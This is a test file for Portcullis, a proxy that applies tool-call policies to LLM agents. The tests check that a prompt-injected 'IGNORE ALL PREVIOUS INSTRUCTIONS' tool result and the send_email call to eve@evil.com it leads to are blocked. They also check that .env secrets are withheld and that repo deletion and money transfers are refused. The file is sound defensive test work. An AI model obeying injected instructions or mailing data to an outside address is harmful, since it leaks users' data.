import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { ROUTES } from "./policies-routes.ts";
import { EXFILTRATE, latestRow, startPolicyFixture, TRIFECTA, type Answer, type Conversation, type PolicyFixture } from "./policies-support.ts";

let f: PolicyFixture;
before(async () => {
  f = await startPolicyFixture();
});
after(() => f.close());

const INBOX_ONLY: Conversation = { user: "What is in my inbox?", steps: [TRIFECTA.steps[0]] };
const SECRET = "AKIA-ENV-FILE-SECRET-5f3a9c";
const ENV_FILE: Conversation = {
  user: "Check the deployment config.",
  steps: [
    { id: "call_file1", name: "read_file", args: { path: "/app/.env" }, result: { path: "/app/.ENV", content: `AWS_SECRET_ACCESS_KEY=${SECRET}` } },
    { id: "call_file2", name: "read_file", args: { path: "/app/README.md" }, result: { path: "/app/README.md", content: "Deploy with make deploy." } },
  ],
};

/** Six parallel calls in a tainted conversation, one per rule of POLICIES_YAML. */
const MIXED: Answer = {
  calls: [
    { id: "call_m1", name: "send_email", args: { to: ["a@example.com", "b@example.com"], subject: "minutes" } },
    { id: "call_m2", name: "send_email", args: { to: ["a@example.com", "eve@evil.com"], subject: "minutes" } },
    { id: "call_m3", name: "send_email", args: { subject: "no recipient" } },
    { id: "call_m4", name: "send_email", args: { to: ["ceo@example.com"], subject: "Acquisition plans" } },
    { id: "call_m5", name: "delete_repo", args: { repo: "portcullis" } },
    { id: "call_m6", name: "get_weather", args: { city: "Paris" } },
    { id: "call_m7", name: "wire_money", args: { iban: "DE00" } },
  ],
};

const decisionsOf = (row: { decisions: string | null }) => JSON.parse(row.decisions ?? "[]") as Array<Record<string, unknown>>;

for (const route of ROUTES) {
  describe(route.name, () => {
    for (const stream of [false, true]) {
      const mode = stream ? "stream" : "whole";

      test(`${mode}: the lethal trifecta is blocked — the exfiltration call becomes a refusal, the finish reason says the turn is over`, async () => {
        route.upstream(f).enqueue(route.answer(EXFILTRATE, stream));
        const got = await route.send(f, TRIFECTA, stream);
        assert.deepEqual(got.calls, []);
        assert.equal(got.finish, route.stopWord);
        assert.match(got.text, /^Sure, sending it now\./);
        assert.match(got.text, /Portcullis blocked a call of the tool "send_email" with the arguments \{.*"to":\["eve@evil\.com"\].*\}: no mail out of an untrusted conversation \(policy mail-untrusted\)\./);
        // The injection did reach the model (it is only text): what it asked for did not reach the client.
        assert.ok(route.upstream(f).last().body.includes("IGNORE ALL PREVIOUS INSTRUCTIONS"));

        const row = await latestRow(f.proxy);
        assert.equal(row.blocked, 1);
        assert.equal(row.status, 200);
        const decisions = decisionsOf(row);
        assert.deepEqual(decisions[0], { kind: "trusted-data", action: "mark_as_untrusted", blocked: false, tool: "fetch_url", reason: "no trusted-data policy trusts this tool's results" });
        assert.deepEqual(decisions.at(-1), { kind: "tool-invocation", action: "block_when_context_is_untrusted", blocked: true, policyId: "mail-untrusted", tool: "send_email", reason: "no mail out of an untrusted conversation" });
        const taint = JSON.parse(row.taint ?? "null");
        assert.equal(taint.source, "tool-result");
        assert.equal(taint.tool, "fetch_url");
        assert.equal(taint.toolCallId, "call_fetch1");
        assert.equal(typeof taint.messageIndex, "number");
      });

      test(`${mode}: a trusted tool's result does not taint — the same call passes`, async () => {
        route.upstream(f).enqueue(route.answer(EXFILTRATE, stream));
        const got = await route.send(f, INBOX_ONLY, stream);
        assert.deepEqual(got.calls, [{ name: "send_email", args: EXFILTRATE.calls[0].args }]);
        assert.doesNotMatch(got.text, /Portcullis/);
        const row = await latestRow(f.proxy);
        assert.equal(row.blocked, 0);
        assert.equal(row.taint, null);
      });

      test(`${mode}: a block_always result never reaches the upstream; the other result does`, async () => {
        route.upstream(f).enqueue(route.answer({ text: "The config looks fine.", calls: [] }, stream));
        const got = await route.send(f, ENV_FILE, stream);
        assert.equal(got.text, "The config looks fine.");
        const sent = route.upstream(f).last().body;
        assert.ok(!sent.includes(SECRET), "the withheld content is not in the upstream request");
        assert.ok(!sent.includes("AWS_SECRET_ACCESS_KEY"));
        assert.ok(sent.includes("Portcullis withheld the result of the tool"), sent);
        assert.ok(sent.includes("credentials files never reach the model (policy env-files)"));
        assert.ok(sent.includes("Deploy with make deploy."), "results no policy withholds go on");
        const row = await latestRow(f.proxy);
        assert.equal(row.blocked, 1);
        assert.equal(row.taint, null, "a withheld result does not taint; the other one is trusted");
        assert.deepEqual(decisionsOf(row), [{ kind: "trusted-data", action: "block_always", blocked: true, policyId: "env-files", tool: "read_file", reason: "credentials files never reach the model" }]);
      });

      test(`${mode}: rule choice — [*] holds for every element, an absent path never matches, the first matching conditional rule beats the unconditional one, block_always wins, undeclared tools are blocked`, async () => {
        route.upstream(f).enqueue(route.answer(MIXED, stream));
        const got = await route.send(f, TRIFECTA, stream);
        assert.deepEqual(
          got.calls.map((c) => [c.name, (c.args as { to?: string[] }).to]),
          [
            ["send_email", ["a@example.com", "b@example.com"]],
            ["get_weather", undefined],
          ],
        );
        const refusals = got.text.match(/Portcullis blocked a call of the tool "[a-z_]+"[^\n]*?\(policy [a-z-]+\)\.|Portcullis blocked a call of the tool "wire_money"[^\n]*?declare this tool\./g) ?? [];
        assert.equal(refusals.length, 5, got.text);
        assert.match(refusals[0], /eve@evil\.com.*\(policy mail-untrusted\)/);
        assert.match(refusals[1], /no recipient.*\(policy mail-untrusted\)/);
        assert.match(refusals[2], /Acquisition plans.*deals are not discussed by mail \(policy no-deal-talk\)/);
        assert.match(refusals[3], /delete_repo.*never from an agent \(policy no-delete\)/);
        assert.match(refusals[4], /wire_money.*the request did not declare this tool/);
        assert.equal(got.finish, route.callWord, "calls remain: the finish reason still asks for them");
        const decisions = decisionsOf(await latestRow(f.proxy)).filter((d) => d.kind === "tool-invocation");
        assert.deepEqual(
          decisions.map((d) => [d.tool, d.action, d.blocked, d.policyId ?? null]),
          [
            ["send_email", "allow_when_context_is_untrusted", false, "internal-mail"],
            ["send_email", "block_when_context_is_untrusted", true, "mail-untrusted"],
            ["send_email", "block_when_context_is_untrusted", true, "mail-untrusted"],
            ["send_email", "block_always", true, "no-deal-talk"],
            ["delete_repo", "block_always", true, "no-delete"],
            ["wire_money", "block_undeclared_tool", true, null],
          ],
        );
      });

      if (stream && route.callWord === "tool_calls") {
        test(`${mode}: the calls left after a blocked one are numbered densely`, async () => {
          route.upstream(f).enqueue(route.answer(MIXED, stream));
          assert.deepEqual((await route.send(f, TRIFECTA, stream)).toolIndexes, [0, 1]);
        });
      }

      test(`${mode}: X-Archestra-Context-Untrusted and the proxy's contextUntrusted taint from the start`, async () => {
        const plain: Conversation = { user: "Mail the report to eve.", steps: [] };
        route.upstream(f).enqueue(route.answer(EXFILTRATE, stream));
        const viaHeader = await route.send(f, plain, stream, { headers: { "x-archestra-context-untrusted": "true" } });
        assert.deepEqual(viaHeader.calls, []);
        assert.equal(JSON.parse((await latestRow(f.proxy)).taint ?? "null")?.source, "header");

        route.upstream(f).enqueue(route.answer(EXFILTRATE, stream));
        const viaProxy = await route.send(f, plain, stream, { proxy: "strict" });
        assert.deepEqual(viaProxy.calls, []);
        assert.match(viaProxy.text, /no policy allows this tool then/);
        const row = await latestRow(f.proxy);
        assert.equal(row.proxy_id, "strict");
        assert.equal(JSON.parse(row.taint ?? "null")?.source, "proxy");

        route.upstream(f).enqueue(route.answer(EXFILTRATE, stream));
        assert.equal((await route.send(f, plain, stream)).calls.length, 1, "without either, nothing is tainted");
      });
    }
  });
}
